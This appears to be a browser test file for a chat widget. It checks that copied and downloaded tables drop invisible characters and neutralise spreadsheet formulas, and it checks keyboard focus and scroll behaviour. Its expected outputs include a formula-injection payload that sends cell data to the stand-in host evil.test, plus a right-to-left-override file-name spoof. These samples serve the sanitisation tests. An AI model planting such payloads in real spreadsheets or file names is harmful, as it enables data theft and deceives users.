// Tables and copies a visitor can trust (docs/hardening.md), in Chromium, Firefox and WebKit,
// against the mock's `hostile-tables` answer (mock/hostile-tables.ts): what reaches the clipboard
// or a download holds no invisible character and no formula a spreadsheet would run; Tab never
// lands in a table that stands behind its chart; and focusing or revealing anything in a long
// reply never scrolls the floating panel's frame or, inline, the host page.
// Clipboard writes and downloads are kept by the page (fixtures/capture-downloads.js).
import { describe, expect, it } from 'vitest';
import { openPage, type Locator, type WidgetPage } from './engines';

const INVISIBLE = /[\u{e0000}-\u{e007f}\u200b-\u200f\u202a-\u202e\u2060-\u2069\ufeff\u061c\u180e]/u;
/** A cell a spreadsheet would run: a formula character first (blanks looked through), not a number. */
const runs = (cell: string) => /^[\s\u00a0]*[=+\-@]/.test(cell) && !/^[-+]?\d[\d,.]*$/.test(cell.trim());

const INLINE_PAGE =
  '<h1>Reports</h1><section id="chat" style="width: 520px; height: 640px"></section><div style="height: 4000px">Page content</div>';

async function hostileReply(mode: 'floating' | 'inline' = 'floating'): Promise<WidgetPage> {
  const wp = await openPage({
    scenario: 'hostile-tables',
    earlyFixtures: ['capture-downloads.js'],
    bodyHtml: mode === 'inline' ? INLINE_PAGE : undefined,
    initOptions: { locale: 'en', ...(mode === 'inline' ? { container: '#chat' } : {}) },
  });
  if (mode === 'floating') await wp.openPanel();
  else await wp.part('composer-input').waitFor();
  await wp.send('Show the store report');
  const reply = await wp.waitForReplies(1);
  await reply.locator('[part~="copy-message-button"]').waitFor();
  return wp;
}

const clipboard = (wp: WidgetPage) =>
  wp.page.evaluate(() => (window as unknown as { __swClipboard: string[] }).__swClipboard.slice());
const downloads = (wp: WidgetPage) =>
  wp.page.evaluate(() => (window as unknown as { __swDownloads: { bytes: number[] | null }[] }).__swDownloads.slice());
// Centred in the list, where a visitor would have it before pressing. (jump-to-latest, which
// scrolling up can show, sits in a band of its own under the list and covers nothing at its edge.)
const click = async (l: Locator) => {
  await l.evaluate((el) => el.scrollIntoView({ block: 'center' }));
  await l.click();
};
/** The fields of a CSV (RFC 4180, as the widget writes it). */
const csvFields = (csv: string) =>
  [...csv.matchAll(/(?:^|,|\r\n)("(?:[^"]|"")*"|[^,\r\n]*)/g)].map((m) =>
    m[1]!.replace(/^"|"$/g, '').replace(/""/g, '"'),
  );

describe('copies and downloads', () => {
  it('hold no invisible character and no formula; the code copied is the code shown', async () => {
    const wp = await hostileReply();
    const notes = wp.host.locator('.table-block').nth(1);
    await click(wp.part('copy-message-button'));
    await expect.poll(async () => (await clipboard(wp)).length).toBe(1);
    await click(wp.part('copy-code-button'));
    await expect.poll(async () => (await clipboard(wp)).length).toBe(2);
    await click(notes.locator('[part~="copy-table-button"]'));
    await expect.poll(async () => (await clipboard(wp)).length).toBe(3);
    await click(notes.locator('[part~="download-table-button"]'));
    await expect.poll(async () => (await downloads(wp))[0]?.bytes != null).toBe(true);

    const [answer, code, tsv] = await clipboard(wp);
    const csv = Buffer.from((await downloads(wp))[0]!.bytes!)
      .subarray(3)
      .toString('utf8');
    for (const text of [answer!, code!, tsv!, csv]) expect(text).not.toMatch(INVISIBLE);
    expect(answer).toContain('Revenue by store:');

    // What the code block shows, marker included, is what was copied.
    const shown = await wp.host.locator('pre code').evaluate((el) => el.textContent);
    expect(code).toBe(shown);
    expect(code).toBe('ls -la /tmp/report\u27e8U+202E\u27e9 fdp.exe\n');
    expect(await wp.host.locator('pre .bidi-mark').count()).toBe(1);

    const cells = tsv!.split('\n').flatMap((line) => line.split('\t'));
    expect(cells).toHaveLength(12);
    expect(cells.filter(runs)).toEqual([]);
    // Numbers stay numbers; each formula cell starts with a quote.
    expect([3, 5, 7, 9, 11].map((i) => cells[i])).toEqual(['-5', '+3', '-3.5', '-1,234.5', '7']);
    expect([2, 4, 6, 8, 10].map((i) => cells[i]![0])).toEqual(["'", "'", "'", "'", "'"]);
    const fields = csvFields(csv);
    expect(fields.filter(runs)).toEqual([]);
    expect(fields.filter((f) => f.startsWith("'"))).toHaveLength(5);
    expect(fields).toContain('\'=HYPERLINK("http://evil.test/?"&A1,"x")');
    expect(fields).toContain("'\t=1+1"); // the tab kept, behind the quote
    expect(await wp.pageErrors()).toEqual([]);
  });
});

describe('a table behind its chart', () => {
  it('is out of the tab order both ways, yet not inert or hidden from assistive technology', async () => {
    const wp = await hostileReply();
    const stores = wp.host.locator('.table-block').first();
    const chartButton = stores.locator('[part~="chart-button"]');
    await click(chartButton);
    await stores.locator('[part~="chart"]').waitFor();
    // The table's links were tab stops before; now none of its elements is.
    const inHiddenTable = () =>
      wp.page.evaluate(() => {
        const active = document.querySelector('[data-service-widget]')!.shadowRoot!.activeElement;
        return active ? !!active.closest('.table-scroll.sr-only') : false;
      });
    const stops: boolean[] = [];
    await stores.locator('[part~="chart"]').focus();
    for (let i = 0; i < 8; i++) {
      await wp.page.keyboard.press('Tab');
      stops.push(await inHiddenTable());
    }
    await chartButton.focus();
    for (let i = 0; i < 8; i++) {
      await wp.page.keyboard.press('Shift+Tab');
      stops.push(await inHiddenTable());
    }
    expect(stops).not.toContain(true);
    const table = await stores.locator('.table-scroll').evaluate((el) => ({
      inert: (el as HTMLElement).inert === true || !!el.closest('[inert]'),
      ariaHidden: !!el.closest('[aria-hidden="true"]'),
      links: el.querySelectorAll('a[href]').length,
    }));
    expect(table).toEqual({ inert: false, ariaHidden: false, links: 8 });

    // The table back: its links and sort buttons are tab stops again.
    await click(chartButton);
    await expect
      .poll(() =>
        stores
          .locator('.table-scroll')
          .evaluate(
            (el) => [...el.querySelectorAll('a, button')].filter((e) => (e as HTMLElement).tabIndex < 0).length,
          ),
      )
      .toBe(0);
  });
});

/** Every scroll offset outside the message list: the panel's frame, its ancestors in the shadow root, the page. */
const frameScroll = (wp: WidgetPage) =>
  wp.page.evaluate(() => {
    const root = document.querySelector('[data-service-widget]')!.shadowRoot!;
    const list = root.querySelector('[part~="message-list"]')!;
    let total = document.scrollingElement!.scrollTop + document.scrollingElement!.scrollLeft;
    for (let el = list.parentElement; el; el = el.parentElement) total += el.scrollTop + el.scrollLeft;
    return total;
  });

for (const mode of ['floating', 'inline'] as const) {
  describe(`${mode}: one scroll container`, () => {
    it('focus, scrollIntoView and a find-like reveal deep in a long reply scroll the list only', async () => {
      const wp = await hostileReply(mode);
      const stores = wp.host.locator('.table-block').first();
      await click(stores.locator('[part~="chart-button"]'));
      await stores.locator('[part~="chart"]').waitFor();
      await wp.part('message-list').evaluate((el) => (el.scrollTop = 0));
      expect(await frameScroll(wp)).toBe(0);
      const links = wp.host.locator('.md p a');
      // A link deep in the reply, focused as Tab would (the list scrolls to it).
      await links.nth(45).focus();
      expect(await frameScroll(wp)).toBe(0);
      await expect.poll(() => wp.part('message-list').evaluate((el) => el.scrollTop)).toBeGreaterThan(500);
      // What find-in-page does: reveal text, here a cell of the table hidden behind its chart, and a link.
      for (const target of [stores.locator('td').last(), links.nth(10), links.nth(59)]) {
        await target.evaluate((el) => el.scrollIntoView({ block: 'center' }));
        expect(await frameScroll(wp)).toBe(0);
      }
      // Focus put on a hidden table's link by a script (no Tab reaches it) still moves nothing.
      await stores
        .locator('td a')
        .last()
        .evaluate((el) => (el as HTMLElement).focus());
      expect(await frameScroll(wp)).toBe(0);
      expect(await wp.pageErrors()).toEqual([]);
    });
  });
}
